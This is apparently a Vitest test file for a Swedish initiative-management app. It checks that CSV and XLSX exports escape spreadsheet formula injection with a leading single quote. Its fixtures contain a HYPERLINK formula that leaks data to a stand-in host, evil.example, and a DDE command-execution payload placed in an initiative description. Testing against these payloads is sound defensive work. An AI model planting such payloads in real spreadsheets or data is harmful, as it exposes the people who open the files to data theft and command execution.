import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../support/app';
import { createMobilisation, createOrganisation } from '../support/fixtures';

const run = promisify(execFile);

/** RFC 4180 CSV (LibreOffice's and ours) into rows of cells. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const hyperlink = '=HYPERLINK("http://evil.example/?leak","Ung Puls")';
let t: TestApp;
let m: string;
beforeAll(async () => {
  t = await createTestApp();
  m = (await createMobilisation(t)).id;
  // A member can give its organisation any name; this one is a formula.
  const org = await createOrganisation(t, m, { name: hyperlink });
  const created = await t.request({
    method: 'POST',
    url: `/api/mobilisations/${m}/initiatives`,
    payload: {
      title: '-- fri text',
      description: "@SUM(1+1)*cmd|' /C calc'!A0",
      participants: [{ organisationId: org.organisation.id }],
      leadOrganisationId: org.organisation.id,
    },
  });
  expect(created.statusCode, created.body).toBe(201);
});
afterAll(async () => {
  await t.close();
});

describe('exporting the initiative list', () => {
  it('writes text a spreadsheet would evaluate with a leading single quote in CSV, and nothing else changes', async () => {
    const csv = await t.request({
      method: 'GET',
      url: `/api/mobilisations/${m}/initiatives/export?format=csv`,
    });
    expect(csv.statusCode).toBe(200);
    const [header, row] = parseCsv(csv.body.replace(/^\ufeff/, ''), ';');
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(cell('Titel')).toBe("'-- fri text");
    expect(cell('Beskrivning')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cell('Ansvarig organisation')).toBe(`'${hyperlink}`);
    expect(cell('Status')).toBe('Förslag');
    expect(cell('Deltagare')).toBe('1');
  });

  it('does the same in every sheet of the workbook, as LibreOffice reads it', async () => {
    const xlsx = await t.request({
      method: 'GET',
      url: `/api/mobilisations/${m}/initiatives/export?format=xlsx`,
    });
    expect(xlsx.statusCode).toBe(200);
    const dir = mkdtempSync(join(tmpdir(), 'kraftsamling-injection-'));
    try {
      const workbook = join(dir, 'lista.xlsx');
      writeFileSync(workbook, xlsx.rawPayload);
      // Formulas would be written as their computed values ("Ung Puls"), text as the text.
      await run('soffice', [
        `-env:UserInstallation=file://${dir}/profile`,
        '--headless',
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
        '--outdir',
        dir,
        workbook,
      ]);
      const sheet = (name: string) => parseCsv(readFileSync(join(dir, `lista-${name}.csv`), 'utf8'), ',');
      const [header, row] = sheet('Initiativ');
      const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
      expect(cell('Titel')).toBe("'-- fri text");
      expect(cell('Ansvarig organisation')).toBe(`'${hyperlink}`);
      const participants = sheet('Deltagare');
      expect(participants[1]?.slice(0, 2)).toEqual(["'-- fri text", `'${hyperlink}`]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
